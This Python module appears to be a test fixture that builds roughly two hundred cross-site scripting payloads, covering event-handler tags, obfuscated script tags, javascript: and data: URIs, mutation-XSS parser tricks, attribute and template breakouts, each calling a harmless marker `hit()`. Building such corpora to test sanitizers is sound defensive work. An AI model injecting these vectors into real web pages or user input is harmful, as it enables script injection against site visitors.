"""Some two hundred ways in which people have smuggled scripts into pages; each calls `hit()` when it runs."""

from collections.abc import Callable, Iterator
from typing import Final

CODE: Final = "hit()"

# An element, what it needs beside its handler, and the handler that runs without anybody touching it, or nearly.
ELEMENTS: Final = (
    ("img", "src=x", "onerror"), ("image", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
    ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onerror"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("a", "href=# tabindex=1 autofocus", "onfocus"), ("marquee", "", "onstart"),
    ("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"), ("p", "", "onmouseover"),
    ("div", "style=animation-name:x", "onanimationstart"), ("x-y", "contenteditable", "onbeforeinput"),
    ("dialog", "open", "onclose"),
)  # fmt: skip

Dress = Callable[[str, str, str], str]

# The same attack in other clothes.
DRESSES: Final[tuple[Dress, ...]] = (
    lambda tag, needs, on: f"<{tag} {needs} {on}={CODE}>",
    lambda tag, needs, on: f'"><{tag} {needs} {on}="{CODE}">',
    lambda tag, needs, on: f"'><{tag.upper()} {needs} {on.upper()}='{CODE}'>",
    lambda tag, needs, on: f"<{tag}/{needs.replace(' ', '/')}/{on}=&#104;&#x69;t&lpar;&rpar;>",
    lambda tag, needs, on: f"<{tag}\n{needs}\t{on}\n=\n{CODE}//",
    lambda tag, needs, on: f"<<{tag} {needs} x='>' {on}={CODE}>",
    lambda tag, needs, on: f"&lt;{tag} {needs} {on}={CODE}&gt;",
)

SCRIPTS: Final = (
    f"<script>{CODE}</script>", f"</script><script>{CODE}</script>", f"<SCRIPT SRC=data:,{CODE}></SCRIPT>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>", f"<script/x>{CODE}</script >", f"<script\n>{CODE}</script\n>",
    f"<script type=module>{CODE}</script>", f"<svg><script>{CODE}</script></svg>",
    f"<svg><script href=data:,{CODE} /></svg>", f"<math><script>{CODE}</script></math>",
    f"<!--><script>{CODE}</script-->", f"<![CDATA[<script>{CODE}</script>]]>", f"<?xml><script>{CODE}</script>",
    f"<template><script>{CODE}</script></template>", f"%3Cscript%3E{CODE}%3C/script%3E",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
    f"＜script＞{CODE}＜/script＞",
    f"+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
)  # fmt: skip

ADDRESSES: Final = (
    f"javascript:{CODE}", f"JaVaScRiPt:{CODE}", f"java\tscript:{CODE}", f"java\nscript:{CODE}", f" javascript:{CODE}",
    f"javascript&colon;{CODE}", f"&#106;avascript:{CODE}", f"&#x6A&#x61vascript:{CODE}", f"javascript://x%0a{CODE}",
    f"\x01javascript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    f"vbscript:{CODE}", f"view-source:javascript:{CODE}", f"feed:javascript:{CODE}",
)  # fmt: skip

HOLDERS: Final = (
    '<a href="{}">x</a>', "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '<iframe src="{}"></iframe>',
)  # fmt: skip

OTHERS: Final = (
    # SVG and MathML
    f"<svg><a xlink:href=javascript:{CODE}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>", f"<svg><set onbegin={CODE} attributeName=x>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={CODE}>#x\"></svg>",
    f"<svg><foreignObject><body onload={CODE}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CODE}></style>",
    f"<math href=javascript:{CODE}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{CODE}>x",
    # What changes when it is read a second time
    f"<noscript><p title=\"</noscript><img src=x onerror={CODE}>\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={CODE}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CODE}>",
    f"<textarea><img title=\"</textarea><img src=x onerror={CODE}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={CODE}>\">",
    f"<title><a title=\"</title><img src=x onerror={CODE}>\">",
    f"<table><td><svg onload={CODE}>",
    f"<p/><svg onload={CODE}>",
    f"<select><style></select><img src=x onerror={CODE}></style>",
    # What takes over the page in other ways
    f"<base href=javascript:/{CODE}/>", f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    f"<form action=javascript:{CODE}><input type=submit autofocus></form>",
    f"<button formaction=javascript:{CODE}>x</button>",
    f"<iframe srcdoc=\"<script>parent.{CODE}</script>\"></iframe>",
    f"<object data=\"data:text/html,<script>parent.{CODE}</script>\"></object>",
    f"<link rel=import href=\"data:text/html,<script>{CODE}</script>\">",
    "<style>@import 'javascript:hit()';</style>",
    f"<div style=\"background:url(javascript:{CODE})\">x</div>", f"<div style=\"width:expression({CODE})\">x</div>",
    # Out of an attribute, a string, a template
    f"\" autofocus onfocus={CODE} x=\"",
    f"' autofocus onfocus={CODE} x='",
    f"` autofocus onfocus={CODE} x=`",
    f"\\\"-{CODE}-\\\"",
    f"'-{CODE}-'",
    f"\";{CODE}//",
    f"</title><svg onload={CODE}>",
    f"</textarea><svg onload={CODE}>",
    f"--><svg onload={CODE}>",
    f"]]><svg onload={CODE}>",
    f"${{{CODE}}}",
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    "{{ 7|add:35 }}{% now 'Y' %}",
    f"<% {CODE} %>",
    f"#{{{CODE}}}",
    f"<x-y is=script>{CODE}</x-y>",
    f"\u2028{CODE}\u2029",
    f"\u202e<svg onload={CODE}>",
)  # fmt: skip


def _all() -> Iterator[str]:
    for index, (tag, needs, on) in enumerate(ELEMENTS):
        # Each element plainly, and in some of the clothes; the clothes go round.
        yield DRESSES[0](tag, needs, on)
        for step in range(1, 5):
            yield DRESSES[1 + (index + step) % (len(DRESSES) - 1)](tag, needs, on)
    yield from SCRIPTS
    for index, address in enumerate(ADDRESSES):
        for step in range(3):
            yield HOLDERS[(index + 2 * step) % len(HOLDERS)].format(address)
    yield from OTHERS


PAYLOADS: Final = tuple(dict.fromkeys(_all()))

# Short enough for a name.
NAMES: Final = (
    "<img src=x onerror=hit()>", "</script><svg onload=hit()>", '"><svg/onload=hit()>', "' autofocus onfocus=hit() x='",
    "{{constructor.constructor('hit()')()}}", "javascript:hit()", "<b>Vet</b>{name}${hit()}",
)  # fmt: skip
